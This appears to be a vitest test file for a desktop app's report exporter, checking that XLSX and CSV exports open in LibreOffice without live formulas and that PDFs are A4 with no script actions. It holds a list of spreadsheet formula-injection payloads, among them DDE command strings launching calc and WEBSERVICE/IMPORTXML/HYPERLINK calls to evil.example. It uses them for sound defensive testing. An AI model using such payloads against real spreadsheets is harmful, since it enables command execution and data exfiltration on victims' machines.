import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterAll, describe, expect, it } from 'vitest'
import { createRenderer } from '../../electron/core/reports/formats/create-renderer.ts'
import { renderReportCsv } from '../../electron/core/reports/formats/report-csv.ts'
import { renderReportXlsx } from '../../electron/core/reports/formats/report-xlsx.ts'
import { makeReportFile } from '../../electron/core/reports/report-file.ts'
import { sourceWorkers } from '../../electron/host/find-product.ts'
import type { Report } from '../../shared/model/report.ts'
import { productFolder } from './test-orgo.ts'

const folder = mkdtempSync(join(tmpdir(), 'orgo-files-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

const office = ['soffice', 'libreoffice'].find((name) => spawnSync(name, ['--version']).status === 0) ?? null
if (office === null)
  process.stdout.write('report-files: LibreOffice is not installed; what it reads of CSV and XLSX was left out.\n')

const starts = [
  ...['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '\0=', '\ufeff=', '＝', '＋', '－', '＠', '|', '%', "'=", '"='],
]
const bodies = [
  ...['1+1', 'SUM(A1:A9)', "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', 'WEBSERVICE("http://evil.example")'],
  ...['DDE("cmd";"/C calc";"x")', "2+5+cmd|' /C calc'!A0", 'IMPORTXML("http://evil.example";"//a")', '{1;2}', 'A1:B2'],
  ...['INDIRECT("A1")', '"";EXEC("calc")'],
]
/** 216 texts that a spreadsheet might run. */
const payloads = starts.flatMap((start) => bodies.map((body) => `${start}${body}`))

const report: Report = {
  ...{ name: 'financial_report', title: '=1+1', organisation: 'Łódź Ελλάς Київ', language: 'en', madeAt: Date.UTC(2026, 9, 1) },
  period: {
    ...{ from: '2026-09-01', to: '2026-09-30', fromAt: 0, toAt: 1, zone: 'Europe/Berlin', title: 'September 2026', over: true },
  },
  filter: { confidential: false },
  filterTexts: ['Place: =A1'],
  figures: [
    {
      ...{ id: 'cost', title: '+SUM(A1)', type: 'money', value: { amount: '-1234.50', currency: 'EUR' } },
      ...{ tasks: null, before: null, recorded: null },
    },
  ],
  tables: [
    {
      ...{ id: 'late_tasks', title: '@evil', note: '' },
      columns: [
        { id: 'task', title: '-task', type: 'text' },
        { id: 'tasks', title: 'Tasks', type: 'number' },
        { id: 'total', title: 'Total', type: 'money' },
        { id: 'due', title: 'Due', type: 'date' },
      ],
      rows: payloads.map((text, n) => ({
        cells: [text, n - 100, { amount: `${n}.05`, currency: 'EUR' }, '2026-09-30'],
        tasks: [null, null, null, null],
      })),
    },
  ],
  charts: [
    { id: 'c', title: 'x', kind: 'bar', table: 'late_tasks', label: 'task', values: ['tasks'], stacked: false, only: null },
  ],
  notes: ['=note'],
}

type Cell = { formula: boolean; type: string; text: string }

/** Lets LibreOffice open a file and tell its cells: what a person would see, and whether it is a formula. */
function reopen(name: string, bytes: Uint8Array, filter: readonly string[]): Cell[][][] {
  const path = join(folder, name)
  writeFileSync(path, bytes)
  const profile = pathToFileURL(join(folder, 'office')).href
  const words = [`-env:UserInstallation=${profile}`, '--headless', ...filter, '--convert-to', 'fods', '--outdir', folder, path]
  expect(spawnSync(office ?? '', words, { timeout: 240_000 }).status).toBe(0)
  const xml = readFileSync(path.replace(/\.\w+$/, '.fods'), 'utf8')
  return [...xml.matchAll(/<table:table .*?<\/table:table>/gs)].map(([table]) =>
    [...table.matchAll(/<table:table-row[^>]*?>(.*?)<\/table:table-row>/gs)].map(([, row = '']) => [...readCells(row)]),
  )
}

function* readCells(row: string): Generator<Cell> {
  for (const [, attributes = '', content = ''] of row.matchAll(/<table:table-cell([^>]*?)(?:\/>|>(.*?)<\/table:table-cell>)/gs)) {
    const repeated = Number(/number-columns-repeated="(\d+)"/.exec(attributes)?.[1] ?? 1)
    const text = [...content.matchAll(/<text:p[^>]*?(?:\/>|>(.*?)<\/text:p>)/gs)].map(([, part = '']) => plain(part)).join('\n')
    const type = /office:value-type="(\w+)"/.exec(attributes)?.[1] ?? ''
    for (let n = 0; n < Math.min(repeated, 20); n += 1) yield { formula: attributes.includes('table:formula'), type, text }
  }
}

const entities: Readonly<Record<string, string>> = { lt: '<', gt: '>', amp: '&', quot: '"', apos: "'" }
const plain = (xml: string): string =>
  xml
    .replaceAll(/<text:s(?: text:c="(\d+)")?\/>/g, (_, count) => ' '.repeat(Number(count ?? 1)))
    .replaceAll('<text:tab/>', '\t')
    .replaceAll(/<[^>]+>/g, '')
    .replaceAll(/&#(x?)([0-9a-f]+);/gi, (_, hex, code) => String.fromCodePoint(Number.parseInt(code, hex ? 16 : 10)))
    .replaceAll(/&(\w+);/g, (whole, name) => entities[name] ?? whole)

/** As XML and text files have line ends; a NUL is in no file. */
const written = (text: string): string => text.replaceAll('\0', '').replaceAll(/\r\n?/g, '\n')
/** LibreOffice drops a byte order mark within a text. */
const seen = (text: string): string => text.replaceAll('\ufeff', '')

describe.skipIf(office === null)('reports that a spreadsheet opens', () => {
  it('RPT-12 A-45 XLSX has no formula, and every text and number as it was', async () => {
    const sheets = reopen('hostile.xlsx', await renderReportXlsx(report), [])
    const cells = sheets.flat(2)
    expect(cells.length).toBeGreaterThan(800)
    expect(cells.filter(({ formula }) => formula)).toEqual([])
    const rows = (sheets[1] ?? []).slice(1).filter((row) => row[1]?.type === 'float')
    expect(rows.map((row) => seen(row[0]?.text ?? ''))).toEqual(payloads.map((text) => seen(written(text))))
    expect(rows.map((row) => [row[1]?.type, row[2]?.type, row[3]?.type])).toEqual(payloads.map(() => ['float', 'float', 'date']))
  }, 300_000)

  it.each(['comma', 'semicolon'] as const)(
    'RPT-12 P4 A-45 CSV with a %s has no formula, and what a program would run stands behind an apostrophe',
    (separator) => {
      const sign = separator === 'comma' ? 44 : 59
      // The last word lets it evaluate formulas, were there any.
      const filter = [`--infilter=CSV:${sign},34,76,1,,0,false,true,false,false,false,0,true`]
      // What is not escaped it does run: the probe can fail.
      expect(reopen(`bare-${separator}.csv`, Buffer.from('"=1+1"\r\n'), filter).flat(2)[0]).toMatchObject({ formula: true })
      const cells = reopen(`hostile-${separator}.csv`, renderReportCsv(report, separator), filter).flat(2)
      expect(cells.filter(({ formula }) => formula)).toEqual([])
      const texts = new Set(cells.map(({ text }) => seen(text)))
      const lost = payloads.filter((text) => ![written(text), `'${written(text)}`].some((form) => texts.has(seen(form))))
      expect(lost).toEqual([])
      expect(cells.some(({ type, text }) => type === 'float' && text === '-1234.5')).toBe(true)
    },
    300_000,
  )
})

describe('files of reports', () => {
  const renderMail = () => ({ ok: false as const, fault: 'no text' })
  const ports = { log: { activity: () => undefined, security: () => undefined, error: () => undefined } }
  const services = (renderer: ReturnType<typeof createRenderer>) => ({ renderer, renderMail, ports }) as never // what makeReportFile uses of them

  it('RPT-12 a PDF is A4 with its typeface inside and more than one page', async () => {
    const renderer = createRenderer(sourceWorkers(join(productFolder, 'electron/core')).report)
    const file = await makeReportFile(services(renderer), report, 'pdf')
    await renderer.close()
    expect(file).toMatchObject({
      ok: true,
      value: { name: 'financial-report_2026-09-01_2026-09-30.pdf', type: 'application/pdf' },
    })
    const text = Buffer.from(file.ok ? file.value.base64 : '', 'base64').toString('latin1')
    expect(text.slice(0, 5)).toBe('%PDF-')
    expect(text.match(/\/Type \/Page\b/g)?.length).toBeGreaterThan(3)
    expect(text).toContain('/MediaBox [0 0 595.28 841.89]')
    expect(text).toMatch(/\/FontFile2 /)
    expect(text).not.toMatch(/\/(JavaScript|OpenAction|Launch|URI)\b/)
  })

  it('RPT-13 one that cannot be made is refused in a sentence, and there is no half of it', async () => {
    const broken = createRenderer(join(folder, 'nowhere.ts'))
    expect(await makeReportFile(services(broken), report, 'pdf')).toEqual({
      ok: false,
      fault: 'The PDF could not be made. Nothing was written; try again, or take another format.',
    })
    await broken.close()
    expect(await makeReportFile(services(broken), report, 'html')).toEqual({ ok: false, fault: 'no text' })
  })
})
